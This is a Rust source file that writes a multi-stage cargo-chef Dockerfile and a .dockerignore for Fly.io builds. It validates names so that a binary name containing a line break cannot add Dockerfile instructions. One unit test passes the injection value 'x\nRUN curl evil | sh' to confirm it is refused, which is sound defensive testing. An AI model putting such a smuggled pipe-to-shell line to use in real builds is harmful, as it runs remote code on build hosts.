//! The fallback for hosts that cannot build a Linux x86-64 binary (macOS, arm64 without a
//! cross toolchain): a multi-stage Dockerfile (cargo-chef caches the dependencies in their
//! own layer) built by Fly's remote builder, with a `.dockerignore` that keeps the build
//! context small and the project state out of it.

/// A name that cannot be written into a Dockerfile.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error(
    "write a Dockerfile for {what} `{name}`: only ASCII letters, digits, `-` and `_` can be written into its build commands; rename it in Cargo.toml"
)]
pub struct DockerfileError {
    /// `package` or `binary`.
    pub what: &'static str,
    /// The name, escaped (it may hold line breaks or control characters).
    pub name: String,
}

/// The Dockerfile for `package`'s binary `bin`, built from the workspace root, with the
/// build-time environment `build_env` (checked by [`super::build_env::check`]) declared as
/// `ARG`s with defaults in the build stages (`fly deploy --build-arg NAME=VALUE` overrides
/// one).
///
/// Both names go into shell commands and a comment, so they must be plain cargo names
/// (cargo itself accepts a `[[bin]]` name with a line break, which would add instructions).
pub fn dockerfile(
    package: &str,
    bin: &str,
    build_env: &std::collections::BTreeMap<String, String>,
) -> Result<String, DockerfileError> {
    for (what, name) in [("package", package), ("binary", bin)] {
        if name.is_empty() || !name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_') {
            return Err(DockerfileError { what, name: crate::fly::config::comment_text(name) });
        }
    }
    let args = if build_env.is_empty() {
        String::new()
    } else {
        let lines: Vec<String> = build_env.iter().map(|(k, v)| super::build_env::dockerfile_arg(k, v)).collect();
        format!(
            "# Build-time environment (build-env): defaults; `fly deploy --build-arg NAME=VALUE` overrides one.\n{}\n",
            lines.join("\n")
        )
    };
    Ok(format!(
        r#"# syntax=docker/dockerfile:1
# Written by `cargo score-fly build --builder dockerfile` for {package} (binary {bin}).
# The build context is the cargo workspace root.

FROM lukemathwalker/cargo-chef:latest-rust-1 AS chef
WORKDIR /app

FROM chef AS planner
COPY . .
RUN cargo chef prepare --recipe-path recipe.json

FROM chef AS builder
{args}COPY --from=planner /app/recipe.json recipe.json
# Dependencies only: this layer is reused until Cargo.toml/Cargo.lock change.
RUN cargo chef cook --release --recipe-path recipe.json
COPY . .
RUN cargo build --release --locked -p {package} --bin {bin}

FROM debian:bookworm-slim AS runtime
RUN apt-get update \
    && apt-get install -y --no-install-recommends ca-certificates \
    && rm -rf /var/lib/apt/lists/*
WORKDIR /app
COPY --from=builder /app/target/release/{bin} /app/{bin}
ENTRYPOINT ["/app/{bin}"]
"#
    ))
}

/// What the build context leaves out.
pub const DOCKERIGNORE: &str = "# Written by cargo score-fly build --builder dockerfile.\ntarget/\n.git/\n.score-fly/state.json\n.score-fly/lock\n**/fly_*.toml\n";

#[cfg(test)]
mod tests {
    #[test]
    fn names_the_package_and_binary() {
        let d = super::dockerfile("todo", "todo-server", &std::collections::BTreeMap::new()).unwrap();
        assert!(!d.contains("ARG"));
        assert!(d.contains("cargo build --release --locked -p todo --bin todo-server"));
        assert!(d.contains("ENTRYPOINT [\"/app/todo-server\"]"));
        assert!(d.contains("cargo chef cook"));
    }

    #[test]
    fn names_that_would_add_instructions_are_refused() {
        let none = std::collections::BTreeMap::new();
        let e = super::dockerfile("todo", "x\nRUN curl evil | sh", &none).unwrap_err();
        assert_eq!(e.what, "binary");
        assert!(e.to_string().contains("binary `x\\nRUN curl evil | sh`"), "{e}");
        assert!(super::dockerfile("to do", "todo", &none).is_err());
        assert!(super::dockerfile("todo", "", &none).is_err());
        assert!(super::dockerfile("my_pkg-2", "Srv_1-x", &none).is_ok());
    }

    #[test]
    fn build_env_is_declared_before_the_dependencies_are_cooked() {
        let env = std::collections::BTreeMap::from([("SQLX_OFFLINE".to_owned(), "true".to_owned())]);
        let d = super::dockerfile("api", "api", &env).unwrap();
        let arg = d.find("ARG SQLX_OFFLINE=\"true\"").expect("declared");
        assert!(d.find("FROM chef AS builder").unwrap() < arg && arg < d.find("cargo chef cook").unwrap(), "{d}");
    }
}
